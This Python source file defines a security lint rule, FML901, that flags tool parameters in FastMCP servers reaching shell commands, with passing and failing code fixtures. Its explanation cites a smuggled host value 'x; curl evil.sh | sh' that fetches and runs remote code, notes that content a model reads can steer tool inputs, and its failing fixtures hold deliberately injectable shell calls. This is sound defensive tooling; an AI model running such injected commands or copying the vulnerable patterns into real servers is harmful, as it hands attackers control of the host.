"""FML901 shell-injection-from-tool-input."""

from __future__ import annotations

import libcst as cst

from fastmcp_preflight.api import Invalid, Scope, ToolCallRule, Valid
from fastmcp_preflight.model.file_model import call_label, keyword, positional, string_value

#: Functions that always hand their command to a shell.
_SHELL_FUNCTIONS = frozenset({
    "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
    "asyncio.create_subprocess_shell",
})
#: Functions that use a shell only when called with `shell=True`.
_SHELL_OPTION = frozenset({
    "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
    "subprocess.Popen",
})


_EXEC = "asyncio.create_subprocess_exec"
#: Shell interpreters, and the flags after which they take a command string to run.
_POSIX_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh"})
_POWERSHELLS = frozenset({"powershell", "powershell.exe", "pwsh", "pwsh.exe"})
_CMD = frozenset({"cmd", "cmd.exe"})


def _program(text: str) -> str:
    return text.replace("\\", "/").rsplit("/", 1)[-1].lower()


def _is_command_flag(program: str, flag: str) -> bool:
    """`-c` (also combined, `-lc`, `-ec`) for a POSIX shell, `-Command`/`-c` for
    PowerShell, `/c` for cmd."""
    if program in _POSIX_SHELLS:
        return (flag.startswith("-") and not flag.startswith("--") and "c" in flag[1:]
                and flag[1:].isalpha())
    if program in _POWERSHELLS:
        return flag.lower() in ("-command", "-c")
    return program in _CMD and flag.lower() == "/c"


def _command_after_flag(elements: list[cst.BaseExpression]) -> cst.BaseExpression | None:
    """In an argument list that starts a shell interpreter with its command flag, the
    command string right after the flag; None for any other argument list."""
    program = string_value(elements[0]) if elements else None
    if program is None:
        return None
    name = _program(program)
    if name not in _POSIX_SHELLS | _POWERSHELLS | _CMD:
        return None
    for index, element in enumerate(elements[1:], start=1):
        flag = string_value(element)
        if flag is None:
            return None  # an option that is not a literal: where the command is, is unknown
        if _is_command_flag(name, flag):
            return elements[index + 1] if index + 1 < len(elements) else None
    return None


def _shell_true(call: cst.Call) -> bool:
    arg = keyword(call, "shell")
    return arg is not None and isinstance(arg.value, cst.Name) and arg.value.value == "True"


class ShellInjectionFromToolInput(ToolCallRule):
    """Tool input reaches a shell command."""

    code = "FML901"
    name = "shell-injection-from-tool-input"
    severity = "error"
    checklist = "(security)"
    tags = ("security",)
    security_severity = 9.0
    summary = "tool input reaches a shell command"
    what = (
        "Finds, in the body of a tool, resource or prompt function, a value derived from its "
        "parameters given as the command to `os.system`, `os.popen`, `subprocess.getoutput`, "
        "`subprocess.getstatusoutput`, `asyncio.create_subprocess_shell`, or to "
        "`subprocess.run/call/check_call/check_output/Popen` called with `shell=True`, or "
        "as the command string of an argument list (to those functions, or the arguments "
        "of `asyncio.create_subprocess_exec`) that starts a shell interpreter (`sh`, `bash`, "
        "`zsh`, `dash`, `ksh`, `powershell`, `pwsh`, `cmd`, `cmd.exe`, also by path) with "
        "its command flag (`-c`, combined flags such as `-lc`, `-Command`, `/c`): the element "
        "right after the flag; values passed later, as the script's positional arguments "
        "(`[\"sh\", \"-c\", 'grep \"$1\" log', \"sh\", pattern]`), are safe. A "
        "value is derived when it is a parameter (not `self`, `cls` or the Context), or an "
        "f-string, `+`/`%` building, `.format(...)`, `str(...)`, `os.path.join(...)` or "
        "`Path(...)` with a derived part, a subscript, attribute or method call of a derived "
        "value, or a local name assigned one earlier in the function. The result of any other "
        "call is clean (`shlex.quote(host)`, a helper); values derived only from parameters "
        "annotated `int`, `float`, `bool`, `Literal[...]`, an `Enum` subclass, `uuid.UUID`, "
        "`datetime.date`/`datetime.datetime` or `decimal.Decimal` (also `X | None`, "
        "`Optional[X]`, `Annotated[X, ...]`) are never reported, since pydantic validates "
        "them. Not reported: any other argument list without `shell=True`; a call after "
        "comparisons (`in`, `not in`, `==`, `!=`), "
        "`.startswith(...)` or calls of functions named like a check (`allow`, `safe`, "
        "`valid`, `check`, `ensure`, `verify`, `sanitiz`) that mention values derived from "
        "each parameter the command comes from (a check of one parameter does not cover "
        "another). Reported at the call."
    )
    why = (
        "The model fills tool parameters, and whoever writes the web page, issue or file the "
        "model reads can steer it. A shell interprets `;`, `&&`, `$(...)` and backticks in "
        "the command it is given, so `ping {host}` with the host `x; curl evil.sh | sh` runs "
        "the attacker's commands on the server, with its credentials."
    )
    instead = (
        "Run the program with an argument list and no shell "
        "(`subprocess.run([\"ping\", \"-c\", \"1\", host])`, "
        "`asyncio.create_subprocess_exec(...)`), so the input stays one argument; check "
        "values against an allow-list before using them."
    )
    hint = "pass an argument list with `shell=False` (the default), and check the value first"
    needles = ("system", "popen", "Popen", "getoutput", "getstatusoutput", "shell",
               "subprocess")

    VALID = (
        # The input is a positional argument of a fixed script, not the command string.
        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
              "@mcp.tool\ndef grep_log(pattern: str) -> str:\n"
              "    cmd = ['sh', '-c', 'grep -- \"$1\" /var/log/app.log', 'sh', pattern]\n"
              "    return subprocess.run(cmd, capture_output=True, text=True).stdout\n"),
        # An int cannot carry a command.
        Valid("import os\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n@mcp.tool\n"
              "def tail(lines: int = 20) -> int:\n"
              "    return os.system(f'tail -n {lines} /var/log/app.log')\n"),
        # An argument list without shell=True: the input stays one argument.
        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
              "@mcp.tool\ndef ping(host: str) -> str:\n"
              "    \"\"\"Ping a host.\"\"\"\n"
              "    result = subprocess.run(['ping', '-c', '1', host], capture_output=True)\n"
              "    return result.stdout.decode()\n"),
        # An allow-list check before the shell.
        Valid("import os\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\nSERVICES = "
              "{'web', 'db'}\n\n@mcp.tool\ndef restart(service: str) -> int:\n"
              "    if service not in SERVICES:\n        raise ValueError(service)\n"
              "    return os.system(f'systemctl restart {service}')\n"),
        # A sanitizer helper: its result is clean.
        Valid("import shlex\nimport subprocess\nfrom fastmcp import FastMCP\n\n"
              "mcp = FastMCP('x')\n\n@mcp.tool\ndef grep(pattern: str) -> str:\n"
              "    quoted = shlex.quote(pattern)\n"
              "    return subprocess.check_output(f'grep -r {quoted} .', shell=True).decode()\n"),
        # A check named like one (validate_...) guards the later call.
        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
              "@mcp.tool\ndef build(target: str) -> str:\n    validate_target(target)\n"
              "    return subprocess.getoutput('make ' + target)\n"),
        # Not a tool: a helper's parameters are not followed across functions.
        Valid("import os\n\ndef run(command: str) -> int:\n    return os.system(command)\n"),
        # Constant command; the parameter is only the working directory.
        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
              "@mcp.tool\ndef status(repo: str) -> str:\n"
              "    return subprocess.run('git status', shell=True, cwd=repo, text=True,\n"
              "                          capture_output=True).stdout\n"),
    )
    INVALID = (
        # A shell interpreter given a command string built from tool input.
        Invalid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool\ndef run_script(script: str) -> str:\n"
                "    return subprocess.run(['/bin/bash', '-lc', f'cd /srv && {script}'],\n"
                "                          capture_output=True, text=True).stdout\n",
                at=((8, 12),)),
        Invalid("import asyncio\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool\nasync def ps(command: str) -> None:\n"
                "    args = ['pwsh', '-NoProfile', '-Command', command]\n"
                "    proc = await asyncio.create_subprocess_exec(*args)\n"
                "    await proc.wait()\n"
                "    await asyncio.create_subprocess_exec('cmd.exe', '/C', command)\n",
                at=((11, 11),)),
        Invalid("import os\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool\ndef ping(host: str) -> int:\n"
                "    \"\"\"Ping a host.\"\"\"\n"
                "    return os.system(f'ping -c 1 {host}')\n",
                at=((9, 12),)),
        Invalid("import subprocess as sp\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool()\nasync def logs(unit: str, lines: int = 50) -> str:\n"
                "    command = 'journalctl -u ' + unit\n"
                "    command += f' -n {lines}'\n"
                "    return sp.run(command, shell=True, capture_output=True, text=True).stdout\n",
                at=((10, 12),)),
        Invalid("import asyncio\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool\nasync def convert(name: str) -> None:\n"
                "    cmd = 'convert {} out.png'.format(name.strip())\n"
                "    proc = await asyncio.create_subprocess_shell(cmd)\n"
                "    await proc.wait()\n",
                at=((9, 18),)),
        # The comparison is about another parameter: it does not guard `pattern`.
        Invalid("from subprocess import getoutput\nfrom fastmcp import FastMCP\n\n"
                "mcp = FastMCP('x')\n\n@mcp.tool\ndef search(pattern: str, mode: str) -> str:\n"
                "    if mode == 'fast':\n        return getoutput('rg ' + pattern)\n"
                "    return getoutput('grep -r ' + pattern)\n",
                at=((9, 16), (10, 12))),
    )

    def check_call(self, node: cst.Call, scope: Scope) -> None:
        model = self.context.model
        resolved = model.resolve(node.func, scope)
        if resolved in _SHELL_FUNCTIONS:
            shell = ""
        elif resolved in _SHELL_OPTION and _shell_true(node):
            shell = ", shell=True"
        elif resolved in _SHELL_OPTION or resolved == _EXEC:
            self._check_interpreter(node, resolved, scope)
            return
        else:
            return
        arg = positional(node, 0) or keyword(node, "args") or keyword(node, "cmd") or keyword(
            node, "command")
        if arg is None:
            return
        taint = model.unchecked(model.taint_of(arg.value, node), node)
        if taint is None:
            return
        sink = f"the shell of `{call_label(node, resolved)}(...{shell})`"
        self.report(node, taint.reaches(sink, self.context.line_of)
                    + " with no allow-list check: the shell runs any command it contains")

    def _check_interpreter(self, node: cst.Call, resolved: str, scope: Scope) -> None:
        """`subprocess.run(["bash", "-c", command])`, `create_subprocess_exec("sh", "-c",
        command)`: the command string right after the flag goes to a shell."""
        if resolved == _EXEC:
            if any(arg.star for arg in node.args if arg.keyword is None):
                return
            elements = [arg.value for arg in node.args if arg.keyword is None]
        else:
            arg = positional(node, 0) or keyword(node, "args")
            value = arg.value if arg is not None else None
            if isinstance(value, cst.Name):
                value = self._list_of(value, scope)
            if not isinstance(value, (cst.List, cst.Tuple)) or any(
                    isinstance(e, cst.StarredElement) for e in value.elements):
                return
            elements = [e.value for e in value.elements]
        command = _command_after_flag(elements)
        if command is None:
            return
        model = self.context.model
        taint = model.unchecked(model.taint_of(command, node), node)
        if taint is None:
            return
        sink = (f"the shell command of `{call_label(node, resolved)}(...)` "
                f"(`{string_value(elements[0])}` with its command flag)")
        self.report(node, taint.reaches(sink, self.context.line_of)
                    + " with no allow-list check: the shell runs any command it contains")

    def _list_of(self, name: cst.Name, scope: Scope) -> cst.BaseExpression | None:
        """The list display a local name is bound to once (`cmd = ["sh", "-c", text]`)."""
        found = scope.lookup(name.value)
        if found is None or found[0] is not scope or len(found[1]) != 1:
            return None
        return found[1][0].value
